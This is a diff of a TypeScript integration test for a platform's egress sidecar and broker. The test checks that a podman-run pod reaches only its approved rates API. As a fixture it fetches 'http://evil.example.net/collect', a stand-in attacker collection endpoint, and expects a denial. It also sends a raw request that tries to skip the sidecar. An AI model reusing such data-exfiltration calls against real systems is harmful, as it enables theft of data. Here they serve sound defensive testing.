@@ -5,13 +5,14 @@
 // container fetches the artifact over TLS with a service-account token as a kubelet would project it,
 // checks its digest and unpacks it; the app, as user 65534 on a read-only root, answers only requests that
 // carry an identity the platform signed, whether a request comes through the platform's gateway (which
-// forwards to the app's Service) or straight to the pod.
+// forwards to the app's Service) or straight to the pod. Its outbound calls go through the egress sidecar
+// to the platform's broker, which lets through the API the app is approved for and nothing else.
 //
 // What podman cannot be here, and is patched in the played copy (each named below, nothing else changes):
 // no cluster DNS or Services (the pod shares the host's network, so its init container reaches the
-// platform's TLS address on loopback), no kubelet to project a service-account token (the token the
-// cluster's issuer would sign is written to a folder the pod mounts, and its key is the one the platform
-// trusts), no ConfigMaps without a cluster (the CA comes from a folder the same way), and the app listens on
+// platform's TLS address, and its egress sidecar the broker's, on loopback), no kubelet to project
+// service-account tokens (the two the cluster's issuer would sign, the artifact's and the egress sidecar's,
+// are written to folders the pod mounts, and its key is the one the platform trusts), no ConfigMaps without a cluster (the CA comes from a folder the same way), and the app listens on
 // a socket in a folder instead of a port of the host, so nothing here listens beyond loopback (its probes,
 // on that port, go with it). Podman 4.3 removes a finished init container while it still counts it as
 // running, and then fails the pod (containers/podman#18477, fixed in 4.6): the played copy keeps it instead
@@ -19,7 +20,11 @@
 // budget need a cluster: they are checked against the Kubernetes schemas in kubernetes.test.ts.
 import assert from 'node:assert/strict';
 import { chmodSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
-import { request as httpRequest } from 'node:http';
+import {
+  createServer as createHttpServer,
+  type Server as HttpServer,
+  request as httpRequest,
+} from 'node:http';
 import { createServer as createHttpsServer, type Server } from 'node:https';
 import {
   type AddressInfo,
@@ -81,6 +86,8 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
   let socket: string;
   let digest: string;
   let registry: Awaited<ReturnType<typeof startRegistry>>;
+  let rates: HttpServer;
+  const calls: { path: string; authorization: string | undefined }[] = [];
 
   before(async () => {
     dir = mkdtempSync(join(tmpdir(), 'microapp-kube-play-'));
@@ -120,6 +127,16 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
     });
     await new Promise<void>((r) => relay.listen(0, '127.0.0.1', r));
 
+    // An outside API the app is approved to call.
+    rates = createHttpServer((req, res) => {
+      calls.push({ path: req.url ?? '', authorization: req.headers['proxy-authorization'] });
+      res.setHeader('content-type', 'application/json');
+      res.end(JSON.stringify({ eur: 1.08 }));
+    });
+    await new Promise<void>((r) => rates.listen(0, '127.0.0.1', r));
+    writeFileSync(join(dir, 'egress.crt'), ca.cert);
+    writeFileSync(join(dir, 'egress.key'), ca.key, { mode: 0o600 });
+
     // The cluster's service-account issuer: its public keys are what the platform checks pods' tokens with.
     const cluster = await generateKeyPair('RS256');
     const jwk = { ...(await exportJWK(cluster.publicKey)), kid: 'cluster', alg: 'RS256', use: 'sig' };
@@ -139,6 +156,11 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
       MICROAPP_KUBERNETES_TOKEN_ISSUER: issuer,
       MICROAPP_KUBERNETES_TOKEN_JWKS: join(dir, 'jwks.json'),
       MICROAPP_KUBERNETES_SERVICE_URL: `http://127.0.0.1:${(relay.address() as AddressInfo).port}`,
+      // The platform is its own egress broker's Deployment here, on loopback, with a company-issued certificate.
+      MICROAPP_EGRESS_LISTEN: '127.0.0.1:0',
+      MICROAPP_EGRESS_TLS_CERT_FILE: join(dir, 'egress.crt'),
+      MICROAPP_EGRESS_TLS_KEY_FILE: join(dir, 'egress.key'),
+      MICROAPP_DEV_EGRESS_HOSTS: `api.rates.example.com=127.0.0.1:${(rates.address() as AddressInfo).port}`,
     }));
     platform = server.url;
 
@@ -159,12 +181,21 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
     const files = Object.fromEntries(
       [...Object.keys(rendered0.files), '.npmrc'].map((f) => [f, readFileSync(join(src, f), 'utf8')]),
     );
+    // The app calls one outside API, which its registration names.
+    files['microapp.yaml'] += 'integrations: { egress: [api.rates.example.com] }\n';
     // Registered, then built and signed by the platform's own pipeline, which installs from the mirror.
     const reg = await call(server, 'POST', '/api/v1/apps', {
       token: t.alice,
       body: parse(files['microapp.yaml']!),
     });
     assert.equal(reg.status, 201, reg.text);
+    if (reg.body.app.state !== 'approved') {
+      const review = await call(server, 'POST', `/api/v1/apps/${name}/reviews`, {
+        token: t.bob,
+        body: { decision: 'approve' },
+      });
+      assert.equal(review.status, 200, review.text);
+    }
     const started = await call(server, 'POST', `/api/v1/apps/${name}/builds`, {
       token: t.alice,
       body: { source: await sourceArchive(files) },
@@ -193,18 +224,21 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
 
     // What a kubelet would write: a projected token of the app's own service account, for ten minutes.
     const now = Math.floor(Date.now() / 1000);
-    const token = await new SignJWT({
-      'kubernetes.io': { namespace: 'microapps', serviceaccount: { name } },
-    })
-      .setProtectedHeader({ alg: 'RS256', kid: 'cluster' })
-      .setIssuer(issuer)
-      .setAudience('microapp-artifacts')
-      .setSubject(`system:serviceaccount:microapps:${name}`)
-      .setIssuedAt(now)
-      .setExpirationTime(now + 600)
-      .sign(cluster.privateKey);
+    const projected = (audience: string) =>
+      new SignJWT({
+        'kubernetes.io': { namespace: 'microapps', serviceaccount: { name } },
+      })
+        .setProtectedHeader({ alg: 'RS256', kid: 'cluster' })
+        .setIssuer(issuer)
+        .setAudience(audience)
+        .setSubject(`system:serviceaccount:microapps:${name}`)
+        .setIssuedAt(now)
+        .setExpirationTime(now + 600)
+        .sign(cluster.privateKey);
     for (const [folder, file, content] of [
-      ['token', 'token', token],
+      ['token', 'token', await projected('microapp-artifacts')],
+      // The egress sidecar's own, for another audience.
+      ['egress-token', 'token', await projected('microapp-egress')],
       ['ca', 'ca.crt', readFileSync(ca.ca, 'utf8')],
     ] as const) {
       mkdirSync(join(dir, folder), { mode: 0o755 });
@@ -220,6 +254,14 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
     deployment.metadata.annotations['io.podman.annotations.init.container.type'] = 'always';
     const byName = (volume: string) => pod.volumes.find((v: { name: string }) => v.name === volume);
     Object.assign(byName('artifact-token'), { projected: undefined, hostPath: { path: join(dir, 'token') } });
+    Object.assign(byName('egress-token'), {
+      projected: undefined,
+      hostPath: { path: join(dir, 'egress-token') },
+    });
+    // The broker's Service, as the pod (on the host's network) reaches it here.
+    const sidecar = pod.containers.find((c: { name: string }) => c.name === 'egress');
+    sidecar.env.find((e: { name: string }) => e.name === 'BROKER_URL').value =
+      `https://localhost:${server.internals.egressPort}`;
     Object.assign(byName('platform-ca'), { configMap: undefined, hostPath: { path: join(dir, 'ca') } });
     pod.volumes.push({ name: 'run', hostPath: { path: join(dir, 'run') } });
     const app = pod.containers.find((c: { name: string }) => c.name === 'app');
@@ -239,12 +281,25 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
     await registry?.close();
     front?.close();
     relay?.close();
+    rates?.close();
     if (dir) rmSync(dir, { recursive: true, force: true });
   });
 
   test('the pod fetches its signed artifact over TLS with its own token, loads its native module and serves signed-in people only', async () => {
     const play = await contained('podman', ['kube', 'play', played]);
-    assert.equal(play.code, 0, `${play.stdout}\n${play.stderr}`);
+    if (play.code !== 0) {
+      // What each of the pod's containers said, to know which one failed and why.
+      const listed = await contained('podman', ['ps', '--all', '--pod', '--format', '{{.ID}} {{.Names}}']);
+      const said = [];
+      for (const line of listed.stdout
+        .trim()
+        .split('\n')
+        .filter((l) => l.includes(name))) {
+        const logs = await contained('podman', ['logs', line.split(' ')[0]!]);
+        said.push(`${line}:\n${logs.stdout}${logs.stderr}`);
+      }
+      assert.fail(`${play.stdout}\n${play.stderr}\n${said.join('\n')}`);
+    }
     // The app can only start once the init container has fetched, checked and unpacked its artifact.
     let first = { status: 0, body: '' };
     for (let i = 0; i < 120 && first.status === 0; i++) {
@@ -305,5 +360,55 @@ describe('the Kubernetes objects run a real app, npm dependencies and a native m
     ]);
     assert.equal(who.code, 0, who.stderr);
     assert.deepEqual(who.stdout.trim().split('\n'), ['65534', 'EROFS']);
+  });
+  test("the pod's calls go out through its egress sidecar and the broker, under the app's approvals", async () => {
+    const since = new Date().toISOString();
+    // As the app's own code calls out: Node with the preload the Deployment loads.
+    const out = (script: string) =>
+      contained('podman', [
+        'exec',
+        `${name}-pod-0-app`,
+        'node',
+        '--require',
+        '/run/egress/shim.cjs',
+        '-e',
+        `(async () => { ${script} })().catch((e) => console.log('error', e.message))`,
+      ]);
+    const approved = await out(
+      "const r = await fetch('http://api.rates.example.com/rates?currency=eur'); console.log(r.status, await r.text());",
+    );
+    assert.equal(approved.stdout.trim(), '200 {"eur":1.08}', approved.stderr);
+    assert.equal(calls.at(-1)?.path, '/rates?currency=eur');
+    assert.equal(calls.at(-1)?.authorization, undefined, "the pod's token stays with the broker");
+    const count = calls.length;
+    const refused = await out(
+      "const r = await fetch('http://evil.example.net/collect'); console.log(r.status, r.headers.get('x-microapp-egress'));",
+    );
+    assert.equal(refused.stdout.trim(), '403 denied', refused.stderr);
+    // The app's container holds no token, and the broker refuses a call that skips the sidecar (on a raw
+    // TLS socket: the preload sends http and https themselves to the sidecar).
+    const skipped = await out(
+      `const fs = require('node:fs');
+       console.log(fs.existsSync('/var/run/secrets/microapp-egress'));
+       const s = require('node:tls').connect({ host: '127.0.0.1', port: ${server.internals.egressPort}, servername: 'localhost', rejectUnauthorized: false }, () =>
+         s.write('GET /rates HTTP/1.1\\r\\nhost: api.rates.example.com\\r\\nconnection: close\\r\\n\\r\\n'));
+       let answer = '';
+       s.on('data', (d) => (answer += d));
+       await new Promise((done) => s.on('end', done));
+       console.log(answer.split(' ')[1]);`,
+    );
+    assert.deepEqual(skipped.stdout.trim().split('\n'), ['false', '407'], skipped.stderr);
+    assert.equal(calls.length, count, 'nothing else reached the outside');
+    // Recorded as the app's calls (the build's, to the npm mirror, came before).
+    const rows = await server.db.kysely
+      .selectFrom('app_egress')
+      .select(['host', 'decision'])
+      .where('at', '>=', since)
+      .orderBy('at')
+      .execute();
+    assert.deepEqual(
+      rows.map((r) => `${r.host} ${r.decision}`),
+      ['api.rates.example.com allowed', 'evil.example.net denied'],
+    );
   });
 });
